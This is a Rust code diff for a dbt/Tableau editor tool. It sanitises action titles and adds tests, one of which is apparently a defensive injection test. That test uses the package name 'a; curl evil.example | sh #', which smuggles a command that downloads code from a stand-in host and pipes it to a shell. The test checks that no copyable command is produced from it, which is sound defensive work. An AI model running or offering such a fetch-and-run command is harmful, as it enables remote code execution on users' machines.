@@ -21,6 +21,7 @@ use crate::analysis::{Analysis, File};
 use crate::exposures::entry;
 use crate::intent::Intent;
 use crate::locate;
+use crate::text::plain_message;
 
 /// Something a user can choose to do.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -47,9 +48,10 @@ pub enum ActionKind {
 }
 
 impl Action {
-    fn new(title: impl Into<String>, kind: ActionKind) -> Action {
+    /// Titles hold names from the repository and from Tableau.
+    fn new(title: impl AsRef<str>, kind: ActionKind) -> Action {
         Action {
-            title: title.into(),
+            title: plain_message(title.as_ref()),
             kind,
             disabled: None,
         }
@@ -83,6 +85,7 @@ mod tests {
     use expect_test::{Expect, expect};
     use fixture::Fixture;
 
+    use crate::analysis::File;
     use crate::testing::{SHOP, analysis, file};
 
     /// The actions at `$0`, with the reason of those that cannot be done.
@@ -158,6 +161,45 @@ mod tests {
                 Write exposure for W (not now: `a` has `access: private`, and dbt Core 1.11 refuses an exposure on it)
                 List Tableau dashboards that use a"#]],
         );
+    }
+
+    #[test]
+    fn all_that_lack_a_node_are_counted_however_many_are_offered_by_themselves() {
+        let many = 1..=12;
+        let workbooks = many.clone().map(|n| {
+            format!("workbook W{n} file=w{n}.twb\ndatasource D snowflake\n[DB].[S].[A]\n")
+        });
+        let workbooks: String = workbooks.collect();
+        let exposures: String = many
+            .map(|n| format!("w{n} tableau.file=w{n}.twb\n"))
+            .collect();
+        let project = format!(
+            "#- nodes\nmodel.shop.a DB.S.a path=models/a.sql\n#- exposures\n{exposures}#- tableau\n{workbooks}"
+        );
+        let fixture = Fixture::parse(&format!("{project}#- models/a.sql\n$0select 1\n"));
+        let analysis = analysis(&fixture);
+        let (path, offset) = fixture.cursor();
+        let actions = analysis.actions(file(&fixture, path), offset..offset);
+        let titles: Vec<&str> = actions.iter().map(|it| it.title.as_str()).collect();
+        assert!(titles.contains(&"Add a to 12 exposures"), "{titles:?}");
+    }
+
+    #[test]
+    fn no_package_smuggles_a_command_into_what_is_copied() {
+        let fixture = Fixture::parse("#- nodes\n#- models/x.yml\nexposures:\n  - $0name: sales\n");
+        let analysis = analysis(&fixture);
+        let (path, offset) = fixture.cursor();
+        let titles = |package| {
+            let file = File {
+                package,
+                ..file(&fixture, path)
+            };
+            let actions = analysis.actions(file, offset..offset);
+            let titles = actions.into_iter().map(|it| it.title);
+            titles.collect::<Vec<_>>().join("\n")
+        };
+        expect!["Copy `dbt build --select +exposure:crm.sales`"].assert_eq(&titles("crm"));
+        expect![""].assert_eq(&titles("a; curl evil.example | sh #"));
     }
 
     #[test]
